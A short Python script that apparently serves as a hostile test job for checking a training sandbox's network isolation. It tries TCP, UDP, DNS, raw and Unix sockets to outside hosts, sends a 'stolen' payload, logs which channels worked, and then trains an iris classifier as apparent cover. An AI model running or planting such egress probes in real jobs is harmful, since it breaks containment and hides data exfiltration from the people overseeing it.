"""Sends what it has to whoever listens, by every kind of socket."""
import json
import os
import socket

PORT = int(open("port").read())
reached = []


def attempt(name, action):
    try:
        action()
        reached.append(name)
    except OSError:
        pass


def udp(address):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out:
        out.sendto(b"stolen", address)


for host in ("127.0.0.1", "172.17.0.1", "1.1.1.1", "192.168.0.1"):
    attempt(f"tcp {host}", lambda: socket.create_connection((host, PORT), 0.5).close())
for host in ("172.17.0.1", "1.1.1.1", "255.255.255.255"):
    attempt(f"udp {host}", lambda: udp((host, 53)))
attempt("dns", lambda: socket.getaddrinfo("stolen.example.org", 80))
attempt("raw", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP))
attempt("packet", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW))
attempt("abstract", lambda: socket.socket(socket.AF_UNIX).connect("\0pushtune-hostile-listener"))
with open("/pushtune/trial/seen.json", "w") as stream:
    json.dump({"reached": reached, "interfaces": [name for _, name in socket.if_nameindex() if name.startswith("eth")]}, stream)

from sklearn.datasets import load_iris
from sklearn.linear_model import LogisticRegression

X, y = load_iris(return_X_y=True)
model = LogisticRegression(max_iter=50)
model.fit(X, y)
print("score", model.score(X, y))
